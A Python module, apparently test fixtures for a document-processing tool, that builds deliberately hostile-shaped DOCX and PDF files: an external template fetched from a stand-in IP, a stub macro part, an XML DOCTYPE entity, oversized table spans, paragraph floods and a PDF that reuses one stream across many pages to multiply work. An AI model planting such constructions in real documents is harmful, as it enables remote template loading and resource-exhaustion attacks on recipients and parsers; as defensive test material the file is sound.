"""Word documents and PDFs as an attacker makes them, each one change away from a harmless one."""

import io
import zipfile
import zlib

import docx

SENTENCE = "全年举办主题党日12次，参加360人次。"
DOCUMENT, TYPES, RELATIONS = "word/document.xml", "[Content_Types].xml", "word/_rels/settings.xml.rels"
EXTERNAL = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://203.0.113.9/t.dotm" TargetMode="External"/></Relationships>'
)


def plain_docx(*, rows: int = 1) -> bytes:
    """A harmless document with a sentence and a table."""
    document = docx.Document()
    document.add_paragraph(SENTENCE)
    table = document.add_table(rows=rows, cols=2)
    table.cell(0, 0).text, table.cell(0, 1).text = "讲座", "6场"
    kept = io.BytesIO()
    document.save(kept)
    return kept.getvalue()


def changed(data: bytes, parts: dict[str, bytes]) -> bytes:
    """The archive with these parts replaced or added."""
    kept = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in parts:
                new.writestr(name, old.read(name))
        for name, content in parts.items():
            new.writestr(name, content)
    return kept.getvalue()


def part(data: bytes, name: str) -> bytes:
    """A part of the archive."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name)


def with_external_template() -> bytes:
    return changed(plain_docx(), {RELATIONS: EXTERNAL})


def with_macro_part() -> bytes:
    return changed(plain_docx(), {"word/vbaProject.bin": b"\x00"})


def with_doctype() -> bytes:
    data = plain_docx()
    document = part(data, DOCUMENT).replace(b"<w:document", b'<!DOCTYPE d [<!ENTITY a "b">]><w:document', 1)
    return changed(data, {DOCUMENT: document})


def with_wide_cell(span: int) -> bytes:
    """A cell that claims to cover this many columns."""
    data = plain_docx()
    mark = f'<w:tcPr><w:gridSpan w:val="{span}"/>'.encode()
    return changed(data, {DOCUMENT: part(data, DOCUMENT).replace(b"<w:tcPr>", mark, 1)})


def with_empty_paragraphs(count: int) -> bytes:
    data = plain_docx()
    body = part(data, DOCUMENT)
    noise = b"".join(b'<w:p w:rsidR="%08x"/>' % (n * 2654435761 % 2**32) for n in range(count))
    return changed(data, {DOCUMENT: body.replace(b"<w:sectPr", noise + b"<w:sectPr", 1)})


def pdf(pages: int, operators: int) -> bytes:
    """Pages that share one compressed stream: a few kilobytes that mean `pages` times the work of one."""
    stream = zlib.compress(
        b"BT /F1 9 Tf 72 700 Td " + b"(2024 held 12 meetings) Tj 0 -9 Td " * operators + b"ET", 9
    )
    kids = b" ".join(b"%d 0 R" % (5 + n) for n in range(pages))
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count %d/Kids[%s]/Resources<</Font<</F1 4 0 R>>>>/MediaBox[0 0 595 842]>>"
        % (pages, kids),
        b"<</Length %d/Filter/FlateDecode>>stream\n" % len(stream) + stream + b"\nendstream",
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        *(b"<</Type/Page/Parent 2 0 R/Contents 3 0 R>>" for _ in range(pages)),
    ]
    made, offsets = b"%PDF-1.4\n", []
    for number, content in enumerate(objects, start=1):
        offsets.append(len(made))
        made += b"%d 0 obj%s endobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    size = len(objects) + 1
    tail = b"xref\n0 %d\n0000000000 65535 f \n%strailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF"
    return made + tail % (size, table, size, len(made))
